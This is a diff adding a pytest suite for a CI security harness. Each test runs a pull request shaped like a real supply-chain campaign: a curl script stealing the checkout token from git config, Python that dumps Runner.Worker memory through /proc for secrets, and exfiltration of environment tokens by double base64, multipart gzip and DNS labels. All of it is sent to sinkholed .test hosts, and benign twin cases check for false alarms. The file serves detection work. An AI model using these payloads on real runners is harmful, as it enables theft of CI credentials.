@@ -1,0 +1,433 @@
+"""Detection against what real campaigns do (issue 13): one real `cujo review` per case.
+
+Each case is a small project reviewed end to end as a pull request on a git repository
+built here, with the harness installed as action.yml installs it. Attacks are shaped like
+real campaigns (the tj-actions/changed-files memory dump, the Nx and npm worms' token
+theft, .pth persistence); each has a benign twin that does the same kind of thing for a
+project's own reasons and must stay clean. Nothing leaves the machine: targets are
+`.test` names the logging resolver sinks, or loopback.
+
+Reviews run one at a time (the machine is shared), only those the selected tests need,
+each once. These tests need full isolation (root, `ip`, `nft`, `setpriv`, bubblewrap),
+as on an Actions runner; elsewhere they are skipped with the reason.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import threading
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+import pytest
+from cujorun import Cujo, Pending, Review
+from gitrepo import GitRepo
+
+from cujo_action.arm import isolation_unavailable
+from cujo_action.schema import CHECK_NAMES
+
+
+def _why_skip() -> str | None:
+    if os.geteuid() != 0:
+        return "needs root (network namespaces, nftables, the sandbox user), as on Actions"
+    return isolation_unavailable()
+
+
+REASON = _why_skip()
+pytestmark = [
+    pytest.mark.root,
+    pytest.mark.skipif(REASON is not None, reason=f"full isolation unavailable: {REASON}"),
+]
+
+FAST = {"install": 120, "test": 120, "smoke": 60, "probes": 60}
+CALC = "def add(a, b):\n    return a + b\n"
+
+
+def policy(**settings: object) -> str:
+    """Return a `.cujo.yml` text (JSON is YAML, and quotes every command safely)."""
+    return json.dumps({"timeouts": FAST, **settings}) + "\n"
+
+
+def python(code: str) -> str:
+    """Return a shell script line running ``code`` with the run's Python."""
+    return "python - <<'PY'\n" + code.strip() + "\nPY\n"
+
+
+def scripted(install: str = "echo installed\n", test: str = "echo tested\n") -> dict[str, str]:
+    """Return a project whose install and tests are `ci/install.sh` and `ci/test.sh`."""
+    return {
+        "requirements.txt": "",
+        "calc.py": CALC,
+        "ci/install.sh": install,
+        "ci/test.sh": test,
+        ".cujo.yml": policy(install="bash ci/install.sh", test="bash ci/test.sh", smoke="true"),
+    }
+
+
+@dataclass(frozen=True)
+class Case:
+    """A pull request: base files, and the head files written over them."""
+
+    base: Mapping[str, str]
+    head: Mapping[str, str]
+    env: Mapping[str, str] = field(default_factory=dict)
+
+
+# --------------------------------------------------------------------------- item 1: the job
+
+# The Nx "s1ngularity" and npm worms of 2025 read the token actions/checkout leaves in
+# .git/config and send it home.
+CHECKOUT_TOKEN_THEFT = """\
+header="$(git config --get http.https://github.com/.extraheader)"
+token="$(printf %s "${header##* }" | base64 -d)"
+curl -sS -m 20 -o /dev/null --data-binary "t=${token#x-access-token:}" \\
+  https://collector.exfil.test/checkout
+echo "sent ${#token} bytes"
+"""
+
+# tj-actions/changed-files (March 2025): find Runner.Worker, read its memory through
+# /proc, keep what looks like a secret in the runner's own format, ship it encoded.
+MEMORY_DUMP = r"""
+import base64, os, re, urllib.request
+
+def worker():
+    for pid in sorted(os.listdir("/proc"), key=lambda p: (len(p), p)):
+        if pid.isdigit():
+            try:
+                with open(f"/proc/{pid}/cmdline", "rb") as fh:
+                    if b"Runner.Worker" in fh.read():
+                        return pid
+            except OSError:
+                pass
+    raise SystemExit("no Runner.Worker")
+
+pid = worker()
+found = set()
+with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
+    for line in maps:
+        span, perms = line.split()[:2]
+        if not perms.startswith("r"):
+            continue
+        start, end = (int(x, 16) for x in span.split("-"))
+        try:
+            mem.seek(start)
+            chunk = mem.read(end - start)
+        except (OSError, OverflowError, ValueError):
+            continue
+        found.update(re.findall(rb'"[^"]+":\{"value":"[^"]*","isSecret":true\}', chunk))
+blob = base64.b64encode(b"\n".join(sorted(found)))
+print("secrets", len(found))
+urllib.request.urlopen("https://collector.exfil.test/mem", data=blob, timeout=20)
+"""
+
+# What a CI-aware test suite does on a runner: git in the checkout, the job's variables
+# and event file, the process list, and a local echo server. It must stay clean, and
+# everything it looks at must be what a hosted runner shows.
+LOOKS_LIKE_A_JOB = r"""
+import json, os, pwd, re, socket, subprocess, threading
+
+def say(key, value):
+    print(f"{key}={value}")
+
+say("ci", os.environ.get("CI"))
+say("actions", os.environ.get("GITHUB_ACTIONS"))
+say("workspace_is_cwd", os.environ["GITHUB_WORKSPACE"] == os.getcwd())
+say("workspace", os.environ["GITHUB_WORKSPACE"])
+say("repository", os.environ["GITHUB_REPOSITORY"])
+with open(os.environ["GITHUB_EVENT_PATH"]) as fh:
+    event = json.load(fh)
+say("event_sha", event["pull_request"]["head"]["sha"] == os.environ["GITHUB_SHA"])
+say("env_file", os.path.isfile(os.environ["GITHUB_ENV"]))
+say("runtime_token", os.environ["ACTIONS_RUNTIME_TOKEN"].count("."))
+say("user", pwd.getpwuid(os.getuid()).pw_name)
+say("home", os.path.expanduser("~"))
+say("origin", subprocess.run(["git", "remote", "get-url", "origin"], capture_output=True,
+                             text=True).stdout.strip())
+say("head", subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True,
+                           text=True).stdout.strip() == os.environ["GITHUB_SHA"])
+procs = {}
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            with open(f"/proc/{pid}/cmdline", "rb") as fh:
+                procs[int(pid)] = fh.read().replace(b"\0", b" ").decode().strip()
+        except OSError:
+            pass
+workers = [c for c in procs.values() if c.split(" ")[0].endswith("/Runner.Worker")]
+say("worker", workers[0] if workers else "none")
+say("worker_exe", os.readlink(f"/proc/{[p for p, c in procs.items() if c in workers][0]}/exe"))
+texts = [*procs.values(), *os.environ.values(), *os.environ, socket.gethostname(),
+         *os.listdir(os.path.expanduser("~")), *os.listdir("/home/runner/work")]
+say("traces", sorted({t for t in texts if re.search("cujo|sandbox|decoy", t, re.I)}) or "none")
+
+server = socket.create_server(("127.0.0.1", 0))
+def echo():
+    conn, _ = server.accept()
+    conn.sendall(conn.recv(100))
+    conn.close()
+threading.Thread(target=echo, daemon=True).start()
+client = socket.create_connection(server.getsockname(), timeout=10)
+client.sendall(b"ping")
+say("echo", client.recv(100).decode())
+"""
+
+# --------------------------------------------------------------------------- item 2: encodings
+
+# Secrets leave wrapped: tj-actions' `base64 -w0 | base64 -w0`, a gzip file in a
+# multipart upload, base32 of a slice of a token in DNS labels.
+ENCODED_EXFIL = r"""
+import base64, gzip, json, os, socket, urllib.request
+
+env = "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()
+twice = base64.b64encode(base64.b64encode(env))
+urllib.request.urlopen("https://twice.exfil.test/b64", data=twice, timeout=20)
+
+boundary = "----formdata"
+archive = gzip.compress(json.dumps({"npm": os.environ["NPM_TOKEN"]}).encode())
+head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.gz\"\r\n"
+        "Content-Type: application/gzip\r\n\r\n")
+form = head.encode() + archive + f"\r\n--{boundary}--\r\n".encode()
+urllib.request.urlopen(urllib.request.Request(
+    "https://upload.exfil.test/form", data=form,
+    headers={"Content-Type": f"multipart/form-data; boundary={boundary}"}), timeout=20)
+
+token = os.environ["ACTIONS_RUNTIME_TOKEN"][-120:-80].encode()  # a slice of its signature
+name = base64.b32encode(token).decode().rstrip("=").lower()
+labels = ".".join(name[i:i + 40] for i in range(0, len(name), 40))
+try:
+    socket.gethostbyname(f"{labels}.dns.exfil.test")
+except OSError:
+    pass
+print("sent")
+"""
+
+# The benign twin: a test suite that fetches a web page, posts telemetry compressed and
+# uploads fixtures (random bytes, base64, a gzip file): nothing of it is a decoy.
+WEB_TESTS = r"""
+import base64, gzip, json, os, urllib.request
+
+page = urllib.request.urlopen("https://docs.example.test/page", timeout=20).read()
+telemetry = gzip.compress(json.dumps({"tests": 12, "python": "3", "ci": os.environ["CI"]}).encode())
+urllib.request.urlopen(urllib.request.Request("https://telemetry.example.test/v1", data=telemetry,
+    headers={"Content-Encoding": "gzip"}), timeout=20)
+blob = os.urandom(600_000)
+urllib.request.urlopen("https://fixtures.example.test/raw", data=blob, timeout=20)
+urllib.request.urlopen("https://fixtures.example.test/b64", data=base64.b64encode(blob), timeout=20)
+urllib.request.urlopen("https://fixtures.example.test/gz", data=gzip.compress(blob), timeout=20)
+print("fetched", len(page))
+"""
+
+CASES: dict[str, Case] = {
+    "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
+    "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
+    "looks-like-a-job": Case(
+        scripted(), {"ci/test.sh": python(LOOKS_LIKE_A_JOB), "calc.py": CALC + "# v2\n"}
+    ),
+    "encoded-exfil": Case(scripted(), {"ci/test.sh": python(ENCODED_EXFIL)}),
+    "web-tests": Case(scripted(), {"ci/test.sh": python(WEB_TESTS)}),
+}
+
+
+# --------------------------------------------------------------------------- running
+
+
+class Reviews:
+    """Run the reviews the tests ask for, one at a time, each once."""
+
+    def __init__(
+        self,
+        cujo: Cujo,
+        pr_repo: Callable[..., GitRepo],
+        scratch: Callable[[str], Path],
+        installed: Path,
+    ) -> None:
+        self._cujo, self._pr_repo, self._scratch, self._installed = (
+            cujo,
+            pr_repo,
+            scratch,
+            installed,
+        )
+        self._done: dict[str, Review] = {}
+        self._lock = threading.Lock()
+
+    def get(self, name: str) -> Review:
+        """Return the finished review of case ``name`` (run now if it has not been)."""
+        with self._lock:
+            if name not in self._done:
+                self._done[name] = self._run(name)
+            return self._done[name]
+
+    def _run(self, name: str) -> Review:
+        case = CASES[name]
+        repo = self._pr_repo(f"detect-{name}", case.base, case.head)
+        # The harness as action.yml installs it (a wheel in a venv), not this checkout.
+        argv = [str(self._installed), "review", "--repo", str(repo.path)]
+        argv += ["--base", "main", "--head", "pr"]
+        argv += ["--data-dir", str(self._cujo.data_dir), "--json"]
+        env = {k: v for k, v in os.environ.items() if not k.startswith("CUJO_")}
+        env.update(case.env)
+        return Pending(argv, env, self._scratch(f"review-{name}"), self._cujo.data_dir).wait()
+
+
+@pytest.fixture(scope="module")
+def reviews(
+    cujo: Cujo,
+    pr_repo: Callable[..., GitRepo],
+    tmp_path_factory: pytest.TempPathFactory,
+    installed_cujo: Path,
+) -> Reviews:
+    return Reviews(cujo, pr_repo, tmp_path_factory.mktemp, installed_cujo)
+
+
+# --------------------------------------------------------------------------- reading
+
+
+def findings(review: Review, rule: str) -> list[dict[str, Any]]:
+    return [f for f in review.verdict["findings"] if f["rule"] == rule]
+
+
+def critical_rules(review: Review) -> set[str]:
+    return {f["rule"] for f in review.verdict["findings"] if f["severity"] == "critical"}
+
+
+def assert_blocked(review: Review, *rules: str) -> None:
+    """The review is blocked, exactly by ``rules``, with full isolation."""
+    verdict = review.verdict
+    assert review.code == 1, str(review)
+    assert verdict["state"] == "blocked", str(review)
+    assert verdict["isolation"] == "full", str(review)
+    assert critical_rules(review) == set(rules), verdict["findings"]
+
+
+def assert_whole(review: Review) -> None:
+    """No harness process died and no evidence was lost, in any check."""
+    for check in CHECK_NAMES:
+        report = review.report(check)
+        kinds = {o["kind"] for o in report["observations"]}
+        assert not kinds & {"harness_died", "harness_error"}, (check, report["observations"])
+        assert report["evidence_complete"] is True, (check, report)
+
+
+def said(review: Review, check: str = "tests") -> dict[str, str]:
+    """Return the ``key=value`` lines the check's last command printed."""
+    command = review.report(check)["commands"][-1]
+    lines = command["stdout_tail"].splitlines()
+    return dict(line.split("=", 1) for line in lines if "=" in line)
+
+
+def decoys_sent(review: Review) -> set[str]:
+    return {
+        d
+        for f in findings(review, "decoy-egress")
+        for e in f["evidence"]
+        for d in e.get("decoy_seen", [])
+    }
+
+
+# --------------------------------------------------------------------------- item 1
+
+
+def test_the_checkout_token_in_git_config_is_a_decoy_and_its_theft_blocks(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("checkout-token")
+    assert_blocked(review, "decoy-egress")
+    (hit,) = findings(review, "decoy-egress")
+    assert hit["check"] == "tests"
+    (item,) = hit["evidence"]
+    assert (item["host"], item["method"], item["phase"]) == ("collector.exfil.test", "POST", "test")
+    assert item["decoy_seen"] == ["CHECKOUT_TOKEN"]
+    assert "body:plain" in item["decoy_where"]
+    (command,) = review.report("tests")["commands"]
+    # x-access-token:ghs_ and 36 characters: the token actions/checkout keeps.
+    assert "sent 55 bytes" in command["stdout_tail"], command
+    assert_whole(review)
+
+
+def test_scraping_the_runner_workers_memory_finds_decoys_and_blocks(reviews: Reviews) -> None:
+    review = reviews.get("runner-memory")
+    assert_blocked(review, "decoy-egress")
+    (command,) = review.report("tests")["commands"]
+    assert command["exit_code"] == 0, command
+    # system.github.token, github_token (one value) and a repository secret.
+    assert "secrets 3" in command["stdout_tail"], command
+    (hit,) = findings(review, "decoy-egress")
+    (item,) = hit["evidence"]
+    assert (item["host"], item["url"]) == (
+        "collector.exfil.test",
+        "https://collector.exfil.test/mem",
+    )
+    assert set(item["decoy_seen"]) == {"RUNNER_WORKER_GITHUB_TOKEN", "RUNNER_WORKER_NPM_TOKEN"}
+    assert item["decoy_where"] == ["body:base64"]
+    assert_whole(review)
+
+
+def test_a_ci_aware_test_suite_sees_an_actions_job_and_stays_clean(reviews: Reviews) -> None:
+    review = reviews.get("looks-like-a-job")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    assert review.verdict["findings"] == [], review.verdict["findings"]
+    out = said(review)
+    repo = out["repository"].split("/")[1]
+    assert out["workspace"] == f"/home/runner/work/{repo}/{repo}", out
+    assert out["workspace_is_cwd"] == "True", out
+    assert (out["ci"], out["actions"], out["event_sha"], out["env_file"]) == (
+        "true",
+        "true",
+        "True",
+        "True",
+    ), out
+    assert out["runtime_token"] == "2", out  # a JWT: header.payload.signature
+    assert (out["user"], out["home"]) == ("runner", "/home/runner"), out
+    assert out["origin"] == f"https://github.com/{out['repository']}", out
+    assert out["head"] == "True", out
+    # The runner's worker is there, as a hosted runner shows it, and nothing says Cujo.
+    assert out["worker"] == "/home/runner/runners/2.321.0/bin/Runner.Worker spawnclient 107 110"
+    assert out["worker_exe"] == "/home/runner/runners/2.321.0/bin/Runner.Worker", out
+    assert out["traces"] == "none", out
+    assert out["echo"] == "ping", out
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 2
+
+
+def test_decoys_wrapped_as_campaigns_wrap_them_are_found_and_block(reviews: Reviews) -> None:
+    review = reviews.get("encoded-exfil")
+    assert_blocked(review, "decoy-egress")
+    (command,) = review.report("tests")["commands"]
+    assert "sent" in command["stdout_tail"], command
+    by_host = {e["host"]: e for e in review.report("tests")["egress"] if e["decoy_seen"]}
+    twice = by_host["twice.exfil.test"]
+    assert "body:base64+base64" in twice["decoy_where"], twice
+    assert {"GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "AWS_SECRET_ACCESS_KEY"} <= set(
+        twice["decoy_seen"]
+    )
+    form = by_host["upload.exfil.test"]
+    assert (form["decoy_seen"], form["decoy_where"]) == (["NPM_TOKEN"], ["body:multipart+gzip"])
+    (dns,) = [e for e in by_host.values() if e["route"] == "dns"]
+    assert dns["host"].endswith(".dns.exfil.test")
+    # 40 characters of a 1,300-character token, base32 in lower case over two labels.
+    assert (dns["decoy_seen"], dns["decoy_where"]) == (["ACTIONS_RUNTIME_TOKEN"], ["dns:base32"])
+    assert_whole(review)
+
+
+def test_a_suite_that_fetches_pages_and_uploads_fixtures_stays_clean(reviews: Reviews) -> None:
+    review = reviews.get("web-tests")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    # Only warnings that the tests reached the web; no decoy, and every body searched.
+    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
+    egress = review.report("tests")["egress"]
+    assert {e["host"] for e in egress if e["route"] != "dns"} == {
+        "docs.example.test",
+        "telemetry.example.test",
+        "fixtures.example.test",
+    }
+    for item in egress:
+        assert item["decoy_seen"] == [], item
+        assert item["decoy_where"] == [], item  # no search ran out of budget
+    assert_whole(review)
